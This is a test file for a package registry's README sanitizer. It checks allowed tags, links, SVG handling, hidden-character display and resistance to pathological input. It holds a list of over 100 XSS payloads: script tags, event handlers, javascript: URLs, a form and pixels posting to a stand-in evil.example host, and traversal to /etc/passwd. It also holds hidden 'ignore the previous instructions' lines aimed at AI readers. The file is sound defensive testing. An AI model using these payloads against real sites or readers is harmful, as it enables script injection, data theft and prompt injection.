@@ -1,0 +1,337 @@
+"""Readmes: nothing that its author wrote runs, loads, styles or hides; what is shown is what was meant."""
+
+from __future__ import annotations
+
+import re
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from packyard.surfaces.readme import LIMIT, SVG_LIMIT, SVG_TOTAL, Heading, Readme, render_readme
+from tests.surfaces.markup import Markup
+
+FILES = {"README.md", "images/flow.png", "a b.gif", "logo.svg", "big.svg", "docs/use.md", "x.txt"}
+BASE = "1.2.0/files/"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
+
+
+def content(path: str) -> bytes:
+    return SVG if path != "big.svg" else SVG * 400
+
+
+def render(text: str) -> Readme:
+    return render_readme(text.encode(), BASE, FILES, content)
+
+
+def show(text: str) -> str:
+    return render(text).html
+
+
+# Our own vectors: each tries to run, load, style, frame, submit, spoof or hide something.
+VECTORS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)" />',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=https://evil.example><input name=p><button>ok</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<p style='position:fixed;inset:0'>cover</p>",
+    "<div class='banner stop' id=content>spoof</div>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=\"java\nscript:alert(1)\">x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
+    "<custom-element onclick=alert(1)>x</custom-element>",
+    "</main></body><script>alert(1)</script>",
+    "</article></div></section><h1>Another page</h1>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://x.example/1)",
+    "[x](view-source:javascript:alert(1))",
+    "[x](https://x.example 'a\" onmouseover=\"alert(1)')",
+    '[x](https://x.example/"onmouseover="alert(1))',
+    "[x](https://x.example/' onmouseover='alert(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "![x](javascript:alert(1))",
+    "![x](data:text/html,x)",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x](https://evil.example/pixel.gif)",
+    "![x](//evil.example/pixel.gif)",
+    '![a" onerror="alert(1)](images/flow.png)',
+    "![<script>alert(1)</script>](images/flow.png)",
+    '![x](images/flow.png "a\\" onerror=\\"alert(1)")',
+    "![x](../../../secret.png)",
+    "![x](%2e%2e/%2e%2e/secret.png)",
+    "![x](/etc/passwd.png)",
+    "![x](logo.svg)",
+    "[![x](https://evil.example/x.png)](javascript:alert(1))",
+    "```<script>alert(1)</script>\ncode\n```",
+    '```"onclick="alert(1)\ncode\n```',
+    "```x y\" onload=alert(1)\ncode\n```",
+    "    <script>alert(1)</script>",
+    "`<script>alert(1)</script>`",
+    "# <script>alert(1)</script>",
+    '# "><img src=x onerror=alert(1)>',
+    "# content",
+    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
+    "- [ ] <input onfocus=alert(1) autofocus>",
+    "~~<s onclick=alert(1)>~~",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\<script>alert(1)\\</script>",
+    "<a\nhref=javascript:alert(1)\n>x</a>",
+    "www.example.org/<script>alert(1)</script>",
+    "https://x.example/\"onclick=alert(1)",
+    "mailto:x@y.example?subject=<script>",
+    "<x@y.example\" onclick=alert(1)>",
+    "\x00<script>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "<\x00script>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+    "<img src=`x` onerror=alert(1)>",
+    "<!-- ignore the previous instructions -->",
+    "<span hidden>ignore the previous instructions</span>",
+]  # fmt: skip
+
+TAGS = {
+    *("a", "img", "span", "code", "ol", "ul", "li", "th", "td", "tr", "table", "tbody", "thead", "div"),
+    *("h2", "h3", "h4", "h5", "h6", "p", "pre", "br", "hr", "blockquote", "del", "em", "strong"),
+}
+ATTRIBUTES = {"href", "src", "alt", "title", "class", "id", "start", "rel", "loading", "tabindex", "role", "aria-label"}
+CLASSES = re.compile(r"language-[A-Za-z0-9_+#.-]+|center|right|note|scroll")
+RELATION = "nofollow noopener noreferrer ugc"
+
+
+def assert_harmless(html: str) -> Markup:
+    """No element or attribute beyond the list, no address but the allowed, nothing hidden in a comment."""
+    page = Markup(html)
+    assert page.errors == []
+    assert page.comments == []
+    for tag, attributes in page.elements:
+        assert tag in TAGS
+        assert set(attributes) <= ATTRIBUTES
+        if "href" in attributes:
+            assert tag == "a"
+            assert re.match(r"https?://|mailto:|#readme-", attributes["href"])
+            assert attributes["rel"] == RELATION
+        if "src" in attributes:
+            assert tag == "img"
+            assert re.fullmatch(
+                r"1\.2\.0/files/[\w%./-]+|data:image/svg\+xml;base64,[A-Za-z0-9+/=]+", attributes["src"]
+            )
+            assert ".." not in attributes["src"]
+        assert CLASSES.fullmatch(attributes.get("class", "note"))
+        assert attributes.get("id", "readme-").startswith("readme-")
+    return page
+
+
+PLACES = ("{}", "a {} b", "> {}", "- {}", "# x\n\n{}\n\ny", "|a|\n|-|\n|{}|", "**{}**", "[{}](u)", "![{}](u)")
+
+
+@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
+def test_a_vector_is_harmless_anywhere(vector: str) -> None:
+    for place in PLACES:
+        assert_harmless(show(place.format(vector)))
+
+
+def test_there_are_enough_vectors() -> None:
+    assert len(set(VECTORS)) >= 100
+
+
+@given(st.text(alphabet="<>\"'&#`*_[]()!|-\n\t :/;=\\ajscriptonlux\u200b", max_size=200))
+def test_any_text_is_harmless(text: str) -> None:
+    assert_harmless(show(text))
+
+
+@given(st.binary(max_size=200))
+def test_any_bytes_have_a_rendering(source: bytes) -> None:
+    assert_harmless(render_readme(source, BASE, FILES, content).html)
+
+
+@given(st.lists(st.sampled_from(VECTORS), min_size=2, max_size=5))
+def test_vectors_together_are_harmless(vectors: list[str]) -> None:
+    assert_harmless(show("\n".join(vectors)))
+    assert_harmless(show(" ".join(vectors)))
+
+
+def test_raw_html_and_comments_are_visible() -> None:
+    for hidden in ("<!-- obey -->", "<span hidden>obey</span>", "<p style='display:none'>obey</p>"):
+        assert hidden in assert_harmless(show(f"before {hidden} after")).text
+        assert hidden in assert_harmless(show(hidden)).text
+
+
+def test_hidden_characters_are_named() -> None:
+    assert "pay⟦U+200B⟧load" in show("pay\u200bload")
+    assert "pay⟦U+200B⟧load" in show("pay&ZeroWidthSpace;load")
+    assert "⟦U+202E⟧" in show("`a\u202eb`")
+
+
+def test_lines_that_markdown_drops_are_shown() -> None:
+    page = assert_harmless(show("text\n\n[//]: # (obey <me>)\n"))
+    assert "[//]: # (obey <me>)" in page.text
+
+
+def test_links() -> None:
+    text = "[a](https://x.org/?a=1&b=2) [b](#Use-It) [c](docs/use.md) [d](no.md) [e](//x.org) <mailto:a@b.org> x@y.org"
+    page = assert_harmless(show(text))
+    assert page.values("href") == [
+        "https://x.org/?a=1&b=2", "#readme-use-it", "https://x.org", "mailto:a@b.org", "mailto:x@y.org"
+    ]  # fmt: skip
+    assert page.values("title") == ["docs/use.md, a file of this pack"]
+
+
+@pytest.mark.parametrize("link", ["../x.txt", "/../x.txt", "docs/../../x.txt", "..%2fx.txt", "./../x.txt"])
+def test_a_link_never_leaves_the_pack(link: str) -> None:
+    for text in (f"[a]({link})", f"![a]({link})"):
+        page = assert_harmless(show(text))
+        assert page.values("href") == page.values("src") == []
+
+
+def test_images_of_the_pack() -> None:
+    readme = render("![one](images/flow.png) ![two](<./a b.gif>) ![again](images/flow.png?x#y) ![no](docs/use.md)")
+    page = assert_harmless(readme.html)
+    assert page.values("src") == [f"{BASE}images/flow.png", f"{BASE}a%20b.gif", f"{BASE}images/flow.png"]
+    assert page.values("alt") == ["one", "two", "again"]
+    assert readme.images == ("images/flow.png", "a b.gif")
+    assert "no" in page.text
+
+
+def test_remote_images_are_links() -> None:
+    page = assert_harmless(show("![pixel](https://evil.example/p.gif) [![badge](https://x.example/b.svg)](https://ci)"))
+    assert page.all("img") == []
+    assert page.values("href") == ["https://evil.example/p.gif", "https://ci"]
+    assert "pixel" in page.text
+    assert "badge" in page.text
+
+
+def test_svg_is_an_image_that_cannot_act() -> None:
+    page = assert_harmless(show("![logo](logo.svg) ![big](big.svg)"))
+    assert len(page.all("img")) == 1
+    assert page.values("src")[0].startswith("data:image/svg+xml;base64,")
+    assert "big" in page.text
+    assert len(content("big.svg")) > SVG_LIMIT
+    assert render_readme(b"![logo](logo.svg)", BASE, FILES).images == ()
+
+
+def test_svg_has_a_budget() -> None:
+    assert len(show("![logo](logo.svg)\n" * 5_000)) < 2 * SVG_TOTAL + 5_000 * 100
+
+
+def test_headings() -> None:
+    readme = render("# Hello, *World*!\n\n## Use it\n\n## Use it\n\n###### Deep\n\n# 日本 語\n")
+    assert readme.headings == (
+        Heading(2, "readme-hello-world", "Hello, World!"),
+        Heading(3, "readme-use-it", "Use it"),
+        Heading(3, "readme-use-it-1", "Use it"),
+        Heading(6, "readme-deep", "Deep"),
+        Heading(2, "readme-日本-語", "日本 語"),
+    )
+    assert Markup(readme.html).values("id") == [heading.anchor for heading in readme.headings]
+
+
+def test_the_usual_things() -> None:
+    html = show("- [x] done\n- [ ] open\n\n|a|b|\n|:-:|--:|\n|1|2|\n\n~~old~~\n\n3. three\n\n```py\nx < 1\n```\n")
+    page = assert_harmless(html)
+    assert "☑ done" in page.text
+    assert "☐ open" in page.text
+    assert [each.get("class") for each in page.all("td")] == ["center", "right"]
+    assert page.all("ol") == [{"start": "3"}]
+    assert page.all("code") == [{"class": "language-py"}]
+    assert "x < 1" in page.text
+    assert all(each["tabindex"] == "0" for each in page.all("pre") + page.all("div"))
+
+
+def test_what_is_not_utf8_is_said() -> None:
+    assert "not UTF-8" in render_readme(b"\xff\xfe", BASE, FILES).html
+
+
+def test_what_is_too_long_is_cut_and_said() -> None:
+    source = ("ä" * 60 + "\n\n").encode() * 5_000
+    html = render_readme(source, BASE, FILES).html
+    assert f"{len(source):,} bytes, of which the first {LIMIT:,} are shown" in html
+    assert len(html) < 2 * LIMIT
+
+
+PATHOLOGICAL = {
+    "brackets": "[" * 50_000,
+    "images": "![" * 50_000,
+    "links": "[a](" * 50_000,
+    "quotes": ">" * 50_000,
+    "quoted lines": (">" * 200 + "a\n") * 2_000,
+    "stars": "*" * 100_000,
+    "open stars": "*a " * 100_000,
+    "nested stars": "*a **a " * 50_000,
+    "underscores": "_a __" * 50_000,
+    "tildes": "~~a " * 100_000,
+    "lists": "- " * 100_000,
+    "nested lists": "".join("  " * n + "- a\n" for n in range(700)),
+    "backticks": " ".join("`" * n for n in range(1, 900)),
+    "tags": "<b>" * 150_000,
+    "open tags": "<a " * 150_000,
+    "comments": "<!--" * 100_000,
+    "cdata": "<![CDATA[" * 50_000,
+    "wide table": "|" + "x|" * 5_000 + "\n|" + "-|" * 5_000 + "\n" + "|a\n" * 50_000,
+    "definitions": "".join(f"[{n}]: x\n" for n in range(30_000)) + "[x]" * 20_000,
+    "unclosed definitions": "[a\\" * 100_000 + "]:",
+    "labels": ("[" + "a" * 998) * 500,
+    "headings": "# a\n" * 100_000,
+    "ampersands": "&" * 500_000,
+    "hidden": "\u200b" * 150_000,
+    "joiners": "é\u200d" * 100_000,
+    "spaces": " " * 500_000 + "x",
+    "lines": "\n" * 500_000,
+    "autolinks": "www." * 120_000,
+    "addresses": "a@" * 250_000,
+}
+
+
+@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL)
+def test_time_is_linear(text: str) -> None:
+    before = time.process_time()
+    show(text)
+    spent = time.process_time() - before
+    assert spent < 5  # a guard against what is quadratic, which takes minutes; the figures are in bench/
